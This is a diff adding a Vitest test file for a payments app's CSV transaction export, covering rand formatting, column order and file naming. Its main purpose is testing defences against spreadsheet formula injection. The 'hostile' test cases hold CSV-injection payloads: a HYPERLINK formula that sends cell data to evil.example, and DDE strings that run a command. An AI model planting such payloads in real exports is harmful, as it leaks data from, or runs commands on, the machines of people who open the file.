@@ -1,0 +1,87 @@
+import Papa from "papaparse";
+import { describe, expect, it } from "vitest";
+import type { Transaction } from "../../protocol/wire";
+import { buildTransactionsCsv, centsToRand, CSV_COLUMNS, exportFileName, type CsvLabels } from "./csv";
+import { sampleTransaction } from "../../live/testing";
+
+const labels: CsvLabels = {
+  header: Object.fromEntries(CSV_COLUMNS.map((column) => [column, column])) as CsvLabels["header"],
+  status: (status) => `status:${status}`,
+  method: (method) => `method:${method}`,
+  bank: (bank) => `bank:${bank}`,
+};
+
+function parse(csv: string): string[][] {
+  return Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
+}
+
+describe("centsToRand", () => {
+  it("writes two decimals without floating point", () => {
+    expect(centsToRand(0)).toBe("0.00");
+    expect(centsToRand(5)).toBe("0.05");
+    expect(centsToRand(123450)).toBe("1234.50");
+    expect(centsToRand(900719925474099)).toBe("9007199254740.99");
+  });
+});
+
+describe("buildTransactionsCsv", () => {
+  it("has the header and one row per transaction, in column order", () => {
+    const csv = buildTransactionsCsv([sampleTransaction({ unpaidCode: "02", status: "unpaid" })], labels);
+    const [header, row] = parse(csv);
+    expect(header).toEqual([...CSV_COLUMNS]);
+    expect(row).toEqual([
+      "txn_1",
+      "2026-03-02",
+      "status:unpaid",
+      "02",
+      "499.99",
+      "method:debicheck",
+      "Thandi Nkosi",
+      "GYM-0001",
+      "bank:capitec",
+      "6789",
+      "1",
+    ]);
+  });
+
+  it("keeps an unpaid code's leading zero and an empty code empty", () => {
+    const [, paid] = parse(buildTransactionsCsv([sampleTransaction()], labels));
+    expect(paid[3]).toBe("");
+  });
+
+  const hostile: [string, string][] = [
+    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"],
+    ["+27 82 123 4567", "'+27 82 123 4567"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", "'\r=1+1"],
+    ["=1+1\nsecond line", "'=1+1\nsecond line"],
+  ];
+
+  it.each(hostile)("neutralises a formula in a customer name: %j", (name, expected) => {
+    const csv = buildTransactionsCsv([sampleTransaction({ customerName: name })], labels);
+    const [, row] = parse(csv);
+    expect(row[6]).toBe(expected);
+    // Quoted, so the apostrophe is part of the text.
+    expect(csv).toContain(`"'`);
+  });
+
+  it("neutralises formulae in every text column, not only the name", () => {
+    const transaction: Transaction = sampleTransaction({ reference: "=cmd|'/C calc'!A0", accountLastDigits: "+1" });
+    const [, row] = parse(buildTransactionsCsv([transaction], labels));
+    expect(row[7]).toBe("'=cmd|'/C calc'!A0");
+    expect(row[9]).toBe("'+1");
+  });
+
+  it("leaves ordinary names, commas and quotes readable", () => {
+    const [, row] = parse(buildTransactionsCsv([sampleTransaction({ customerName: 'Nkosi, "T" & Sons' })], labels));
+    expect(row[6]).toBe('Nkosi, "T" & Sons');
+  });
+});
+
+describe("exportFileName", () => {
+  it("is dated by the local calendar day", () => {
+    expect(exportFileName(new Date(2026, 2, 9, 23, 59))).toBe("transactions-2026-03-09.csv");
+  });
+});
